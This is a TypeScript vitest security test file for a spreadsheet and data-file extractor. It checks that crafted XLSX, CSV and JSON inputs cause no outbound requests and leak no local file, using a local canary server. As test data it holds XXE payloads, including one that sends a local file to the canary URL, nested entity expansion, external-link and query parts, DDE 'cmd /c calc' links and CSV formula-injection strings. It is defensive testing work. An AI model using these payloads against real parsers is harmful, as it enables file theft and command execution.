import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { extractCsv } from '../../etl/src/extract/extract-csv.js';
import { extractJson } from '../../etl/src/extract/extract-json.js';
import { WorkbookReaders } from '../../etl/src/extract/extract-workbook.js';
import { aRow, aWorkbook, inData } from '../etl/extract/a-workbook.js';
import { allDocuments, allRows } from '../etl/extract/read-all.js';
import { tellRow } from './tell-row.js';
import { anUploadDoor, type UploadDoor } from './upload-door.js';

const CANARY = 'CANARY-7d1f';
/** The child process is the built one: run `npx tsc -b domain store etl` before this file. */
const readers = new WorkbookReaders({ size: 1 });
const folder = mkdtempSync(join(tmpdir(), 'asking-'));
const keep = (name: string, bytes: string | Uint8Array): string => {
  const path = join(folder, name);
  writeFileSync(path, bytes);
  return path;
};
const secret = keep('canary.txt', CANARY);

let canary: Server;
let url = '';
let asked = 0;
let door: UploadDoor;

beforeAll(async () => {
  canary = createServer((_, answer) => answer.end(`<!ENTITY leaked "${CANARY}">`)).on('connection', () => (asked += 1)).listen(0, '127.0.0.1');
  await once(canary, 'listening');
  url = `http://127.0.0.1:${(canary.address() as AddressInfo).port}/x`;
  door = await anUploadDoor();
}, 120_000);
afterAll(async () => {
  await door.close();
  canary.close();
  readers.close();
  rmSync(folder, { recursive: true, force: true });
});

const inline = (text: string): string =>
  inData(aRow(1, `<c r="A1" t="inlineStr"><is><t>${text}</t></is></c>`, `<c r="B1"><f>WEBSERVICE("${url}")</f></c>`, `<c r="C1"><f>DDE("cmd";"/c calc";"A1")</f><v>0</v></c>`));

const xmlParts = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'];

/** What stands before a part of XML, by what it asks for. */
const prologues = (): Readonly<Record<string, string>> => ({
  'an outer DTD': `<!DOCTYPE x SYSTEM "${url}">`,
  'a public DTD': `<!DOCTYPE x PUBLIC "-//x//x" "${url}">`,
  'an outer parameter entity': `<!DOCTYPE x [<!ENTITY % e SYSTEM "${url}"> %e;]>`,
  'a file of this machine': `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]>`,
  'a file sent elsewhere': `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${secret}"><!ENTITY % all "<!ENTITY send SYSTEM '${url}?%f;'>"> %all;]>`,
  'entities within entities': '<!DOCTYPE x [<!ENTITY e "ha"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;">]>',
  'a style sheet': `<?xml-stylesheet href="${url}"?>`,
});

const relation = (attributes: string): string => `<Relationships><Relationship Id="r" TargetMode="External" Target="${url}" ${attributes}/></Relationships>`;

const parts = (): Readonly<Record<string, readonly [string, string]>> => ({
  'a linked workbook': ['xl/externalLinks/externalLink1.xml', `<externalLink><externalBook r:id="r"/><x href="${url}"/></externalLink>`],
  'where that lies': ['xl/externalLinks/_rels/externalLink1.xml.rels', relation('Type="externalLinkPath"')],
  'a linked picture': ['xl/worksheets/_rels/sheet1.xml.rels', relation('Type="image"')],
  'a query': ['xl/connections.xml', `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="${url}"/></connection></connections>`],
  'a macro': ['xl/vbaProject.bin', url],
  'a DDE link': ['xl/externalLinks/externalLink2.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'],
});

const workbooks = (): (readonly [string, Uint8Array])[] => [
  ...xmlParts.flatMap((part) => Object.entries(prologues()).map(([what, text]) => [`${what} in ${part}`, aWorkbook({ before: { [part]: text }, sheet: inline('&e;&leaked;&send;') })] as const)),
  ...Object.entries(prologues()).map(([what, text]) => [`${what}, nowhere used`, aWorkbook({ beforeSheet: text, sheet: inline('a') })] as const),
  ...Object.entries(parts()).map(([what, part]) => [what, aWorkbook({ extraParts: [part], sheet: inline('a') })] as const),
];

test('a workbook that asks for an address or a file has nobody asked and no file of this machine shown, read here or handed in', async () => {
  const files = workbooks();
  const shown: string[] = [];
  for (const [what, bytes] of files) {
    const { rows, problems } = await allRows(readers.extractTable({ path: keep('asks.xlsx', bytes), type: 'xlsx', sheets: null }));
    expect(rows.length + problems.length, what).toBeGreaterThan(0);
    const verdict = await door.judged('asks.xlsx', bytes);
    expect(verdict.tables.length + verdict.problems.length, what).toBeGreaterThan(0);
    if (JSON.stringify([rows, problems, verdict]).includes(CANARY)) shown.push(what);
  }
  tellRow({ fault: 'F3 a file that asks for others', runs: 2 * files.length, lost: 0, doubled: 0, torn: 0, unrecovered: asked + shown.length, note: `${asked} requests, ${shown.length} contents shown` });
  expect([asked, shown]).toEqual([0, []]);
}, 300_000);

test('a formula or an address in text stays text', async () => {
  const cells = ['=WEBSERVICE("http://127.0.0.1/")', '=cmd|\'/c calc\'!A1', `@SUM(1+1)*cmd|'/c x'!A0`, url];
  const csv = await allRows(extractCsv(keep('asks.csv', `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`)));
  expect(csv.rows[0]?.texts).toEqual(cells);
  const { documents } = await allDocuments(extractJson(keep('asks.json', JSON.stringify([{ $ref: url, $schema: url, a: `file://${secret}` }]))));
  expect(documents[0]?.value).toEqual({ $ref: url, $schema: url, a: `file://${secret}` });
  expect(asked).toBe(0);
});

test('the canary sings when it is asked', async () => {
  await (await fetch(url)).text();
  expect(asked).toBe(1);
});
